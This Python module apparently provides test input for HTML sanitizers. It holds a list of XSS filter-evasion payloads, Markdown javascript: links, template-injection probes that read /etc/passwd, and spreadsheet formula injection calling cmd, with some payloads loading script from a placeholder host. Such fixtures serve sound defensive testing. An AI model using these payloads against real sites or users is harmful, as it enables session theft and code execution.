"""What people write into free text to make other people's browsers do things.

Each would call `alert`, load something, or take the reader somewhere, if a page held it as markup.
Sources: OWASP XSS Filter Evasion Cheat Sheet; PortSwigger XSS cheat sheet; html5sec.org.
"""

from __future__ import annotations

PAYLOADS = (
    # Elements
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//other.invalid/x.js></script>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror\n=\nalert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onload=alert(1) onerror=alert(2)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>press</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><a xlink:href=javascript:alert(1)>press</a></math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>press",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onmouseover=alert(1)>point here</b>",
    "<b onclick=alert(1)>press</b>",
    "<p tabindex=0 onfocus=alert(1) id=z>x</p>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<div onpointerover=alert(1)>point here</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # Frames and what takes the reader elsewhere
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//other.invalid/x.swf>",
    "<base href=//other.invalid/>",
    "<meta http-equiv=refresh content='0;url=//other.invalid/'>",
    "<form action=javascript:alert(1)><button>press</button></form>",
    "<button formaction=javascript:alert(1) form=f>press</button><form id=f></form>",
    "<link rel=stylesheet href=//other.invalid/x.css>",
    "<style>body{background:url(//other.invalid/)}</style>",
    # Links
    "<a href=javascript:alert(1)>press</a>",
    "<a href='java&#x09;script:alert(1)'>press</a>",
    "<a href=' &#14; javascript:alert(1)'>press</a>",
    "<a href=vbscript:msgbox(1)>press</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java&#10;script:alert(1))",
    "[press](javascript&colon;alert(1))",
    "[press](&#x6A;avascript:alert(1))",
    "[press](<java\tscript:alert(1)>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](vbscript:msgbox(1))",
    '[press](https://a.example/"onmouseover=alert(1)//)',
    "[press](https://a.example 'x\" onmouseover=\"alert(1)')",
    '![x](x"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "[press][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "press {: onclick=alert(1) }",
    # Out of an attribute, a text or a script
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    # Templates
    "{{ 1234 * 1234 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ page | safe }}{# comment #}",
    "${1234*1234} #{1234*1234} <%= 1234*1234 %>",
    # Unicode
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<img src=x on\u0435rror=alert(1)>",
    "<i\u212ag src=x onerror=alert(1)>",
    # Formulas
    '=HYPERLINK("https://other.invalid","press")',
    "+1+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|'/C calc'!A0",
)  # fmt: skip
# These leave something open that hides whatever stands after them: they come last in a text.
OPEN = ("<script>alert(1)//", "<textarea", "<select", "<noscript", "<style", "<img src=x onload")


def texts(together: int, longest: int = 290) -> list[str]:
    """The payloads in as few texts of a line as hold so many of them, none hiding another."""
    plain = [one for one in PAYLOADS if not one.startswith(OPEN)]
    last = [one for one in PAYLOADS if one.startswith(OPEN)]
    groups = [plain[start : start + together] for start in range(0, len(plain), together)]
    for place, one in enumerate(last):
        groups[place].append(one)
    made = [" ".join(" ".join(group).split()) for group in groups]
    assert max(map(len, made)) <= longest
    return made
